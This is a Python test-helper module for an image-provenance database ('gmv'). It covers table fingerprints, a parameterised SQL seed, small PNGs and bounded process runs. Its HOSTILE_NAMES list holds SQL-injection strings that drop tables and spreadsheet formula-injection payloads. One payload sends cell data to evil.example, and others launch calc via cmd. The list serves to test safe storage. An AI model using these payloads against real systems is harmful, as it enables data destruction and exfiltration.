"""Shared by the reliability tests: table fingerprints, a SQL-level seed, the reader's URL, tiny images.

The seed writes straight into the tables (no CLI) so that access, migration and refresh tests do not
depend on the stage commands; crash tests compare fingerprints of what the commands wrote.
"""

from __future__ import annotations

import datetime as dt
import hashlib
import resource
import subprocess
from pathlib import Path

import numpy as np
import psycopg
import pytest
from psycopg import sql

from gmv_sql import spaces
from gmv_sql.embed import store

HOSTILE_NAMES = [
    "O'Brien & Sons",
    'Quote "double" \\ backslash',
    "semi;colon; DROP TABLE gmv.owner; --",
    "'; DROP TABLE gmv.training_image; --",
    "Robert'); DROP TABLE gmv.match;--",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tleading tab",
    "\rleading carriage return",
    "line one\nline two",
    "Zoë Ångström — 東京 🎨",
    "\u202eright-to-left override",
    "ansi \x1b[31mred\x1b[0m escape",
    "$$ dollar $$ quoting $tag$",
    "100%_wildcards_%",
    "x" * 2000,
]


def reader_url(db_url: str) -> str:
    from gmv_sql.db.commands import with_user

    return with_user(db_url, "gmv_reader")


def relations(conn: psycopg.Connection, schema: str = "gmv", kinds: str = "rm") -> list[str]:
    """Tables (r) and materialized views (m) of a schema, sorted; per-space vector tables included."""
    rows = conn.execute(
        "SELECT c.relname FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace "
        "WHERE n.nspname = %s AND c.relkind = ANY(%s) ORDER BY c.relname",
        (schema, list(kinds)),
    ).fetchall()
    return [r[0] for r in rows]


def fingerprint(conn: psycopg.Connection, relation: str, schema: str = "gmv") -> tuple[int, str]:
    """(row count, md5 of every row's text, sorted): equal iff the relation holds the same rows."""
    stmt = sql.SQL(
        "SELECT count(*), md5(coalesce(string_agg(t::text, E'\\n' ORDER BY t::text), '')) FROM {}.{} AS t"
    ).format(sql.Identifier(schema), sql.Identifier(relation))
    count, digest = conn.execute(stmt).fetchone()
    return count, digest


def fingerprints(conn: psycopg.Connection, schema: str = "gmv", kinds: str = "r") -> dict[str, tuple[int, str]]:
    return {rel: fingerprint(conn, rel, schema) for rel in relations(conn, schema, kinds)}


def query_fingerprint(conn: psycopg.Connection, query: str, params=()) -> tuple[int, str]:
    """(count, md5) of a query's rows, for comparing databases on natural keys."""
    rows = conn.execute(query, params).fetchall()
    text = "\n".join(sorted(repr(tuple(r)) for r in rows))
    return len(rows), hashlib.md5(text.encode()).hexdigest()


def seed(
    conn: psycopg.Connection,
    *,
    n_training: int = 200,
    n_generated: int = 60,
    dim: int = 8,
    k: int = 5,
    owners: list[str] | None = None,
    licenses: list[str] | None = None,
    space: str = "rel",
    seed: int = 0,
    months: int = 2,
    with_matches: bool = True,
) -> dict:
    """Owners, licences, images, one embedding space with vectors, exact top-k matches, a revenue pool.

    Written with parameters only (never string-built SQL), so hostile names are stored verbatim.
    """
    rng = np.random.default_rng(seed)
    owners = owners or ["alice", "bob", "carol"]
    licenses = licenses or ["cc-by", "cc0"]
    with conn.transaction():
        owner_ids = [
            conn.execute("INSERT INTO gmv.owner (name) VALUES (%s) RETURNING owner_id", (o,)).fetchone()[0]
            for o in owners
        ]
        license_ids = [
            conn.execute("INSERT INTO gmv.license (name) VALUES (%s) RETURNING license_id", (lic,)).fetchone()[0]
            for lic in licenses
        ]
        shas = [hashlib.sha256(f"t{seed}-{i}".encode()).hexdigest() for i in range(n_training)]
        rows = conn.execute(
            "INSERT INTO gmv.training_image (sha256, uri, owner_id, license_id, width, height)"
            " SELECT s, u, o, l, 8, 8 FROM unnest(%s::text[], %s::text[], %s::bigint[], %s::bigint[])"
            " WITH ORDINALITY AS x(s, u, o, l, n) ORDER BY n RETURNING sha256, training_id",
            (
                shas,
                [f"/data/train/{owners[i % len(owners)]}/{i}.png" for i in range(n_training)],
                [owner_ids[i % len(owner_ids)] for i in range(n_training)],
                [license_ids[i % len(license_ids)] for i in range(n_training)],
            ),
        ).fetchall()
        by_sha = dict(rows)
        training_ids = [by_sha[s] for s in shas]
        base = dt.datetime(2026, 1, 15, tzinfo=dt.timezone.utc)
        generator_id = conn.execute(
            "INSERT INTO gmv.generator (name) VALUES ('gen') RETURNING generator_id"
        ).fetchone()[0]
        run_id = conn.execute(
            "INSERT INTO gmv.generation_run (generator_id, name) VALUES (%s, 'run1') RETURNING run_id",
            (generator_id,),
        ).fetchone()[0]
        generated_ids = _insert_generated(
            conn, run_id, [f"g{seed}-{j}" for j in range(n_generated)],
            quality=[0.5 + (j % 3) / 2 for j in range(n_generated)],
            created=[base + dt.timedelta(days=31 * (j % months)) for j in range(n_generated)],
        )
        emb_space = spaces.get_or_create_space(conn, space, model="test", dim=dim)
        train_vec = _unit(rng.normal(size=(n_training, dim)))
        gen_vec = _unit(rng.normal(size=(n_generated, dim)))
        store.copy_vectors(conn, emb_space, "training", training_ids, train_vec)
        store.copy_vectors(conn, emb_space, "generated", generated_ids, gen_vec)
        if with_matches:
            insert_exact_matches(conn, emb_space, generated_ids, gen_vec, training_ids, train_vec, k)
        scheme_id = conn.execute("SELECT scheme_id FROM gmv.valuation_scheme WHERE is_default").fetchone()[0]
        conn.execute(
            "INSERT INTO gmv.revenue_pool (period, amount, currency, space_id, scheme_id)"
            " VALUES ('2026-01-01', 1000.00, 'EUR', %s, %s)",
            (emb_space.space_id, scheme_id),
        )
    return {
        "space": emb_space,
        "owner_ids": owner_ids,
        "training_ids": training_ids,
        "generated_ids": generated_ids,
        "train_vec": train_vec,
        "gen_vec": gen_vec,
        "run_id": run_id,
        "k": k,
    }


def _unit(x: np.ndarray) -> np.ndarray:
    return (x / np.linalg.norm(x, axis=1, keepdims=True)).astype(np.float32)


def insert_exact_matches(conn, space, generated_ids, gen_vec, training_ids, train_vec, k: int) -> None:
    """Exact cosine top-k in numpy, written to gmv.match (the matcher's job; here to seed data)."""
    conn.execute("UPDATE gmv.embedding_space SET match_k = %s WHERE space_id = %s", (k, space.space_id))
    dist = 1.0 - gen_vec @ train_vec.T
    order = np.argsort(dist, axis=1, kind="stable")[:, :k]
    with conn.cursor() as cur, cur.copy(
        "COPY gmv.match (space_id, generated_id, rank, training_id, distance, k) FROM STDIN"
    ) as copy:
        for j in range(len(generated_ids)):
            for r, i in enumerate(order[j]):
                copy.write_row((space.space_id, int(generated_ids[j]), r + 1, int(training_ids[i]), float(dist[j, i]), k))


def add_generated(conn, seeded: dict, n: int, *, start: int, seed: int = 1) -> None:
    """More generated images with vectors and matches (so a refresh has something new to publish)."""
    rng = np.random.default_rng(seed)
    space = seeded["space"]
    with conn.transaction():
        ids = _insert_generated(
            conn, seeded["run_id"], [f"extra-{start + j}" for j in range(n)], quality=[1.0] * n,
            created=[dt.datetime(2026, 1, 20, tzinfo=dt.timezone.utc)] * n,
        )
        vec = _unit(rng.normal(size=(n, space.dim)))
        store.copy_vectors(conn, space, "generated", ids, vec)
        insert_exact_matches(conn, space, ids, vec, seeded["training_ids"], seeded["train_vec"], seeded["k"])


def _insert_generated(conn, run_id: int, keys: list[str], *, quality: list[float], created: list) -> list[int]:
    shas = [hashlib.sha256(key.encode()).hexdigest() for key in keys]
    rows = conn.execute(
        "INSERT INTO gmv.generated_image (sha256, uri, run_id, quality, created_at)"
        " SELECT s, '/data/gen/' || s || '.png', %s, q, c"
        " FROM unnest(%s::text[], %s::float8[], %s::timestamptz[]) AS x(s, q, c) RETURNING sha256, generated_id",
        (run_id, shas, quality, created),
    ).fetchall()
    by_sha = dict(rows)
    return [by_sha[s] for s in shas]


def write_png(path: Path, seed: int, size: int = 8) -> Path:
    """A small distinct RGB PNG (different bytes for every seed)."""
    from PIL import Image

    rng = np.random.default_rng(seed)
    pixels = rng.integers(0, 256, size=(size, size, 3), dtype=np.uint8)
    path.parent.mkdir(parents=True, exist_ok=True)
    Image.fromarray(pixels, "RGB").save(path)
    return path


def sha256_file(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def refused(gmv, *args: object) -> str:
    """Run gmv in-process; it must fail with one 'Error: …' line (a crash is not a refusal). Returns the line."""
    result = gmv(*args, ok=False)
    assert result.exit_code == 1, result.output
    assert isinstance(result.exception, SystemExit), repr(result.exception)  # not an uncaught exception
    lines = [line for line in result.output.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("Error: "), result.output
    return lines[0]


MEMORY_LIMIT = 2 << 30  # address space per bounded gmv process: ample for ingest and import, not for /dev/zero


def _limit_memory() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))


def run_bounded(gmv, *args, timeout: float = 60) -> subprocess.CompletedProcess:
    """Run gmv as a process with a memory cap; a hang past timeout is a failure, not a stuck suite."""
    proc = gmv.popen(*args, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, preexec_fn=_limit_memory)
    try:
        out, err = proc.communicate(timeout=timeout)
    except subprocess.TimeoutExpired:
        proc.kill()
        out, err = proc.communicate()
        pytest.fail(f"gmv {' '.join(map(str, args))} still running after {timeout}s (hang):\n{err[-2000:]}")
    return subprocess.CompletedProcess(proc.args, proc.returncode, out, err)
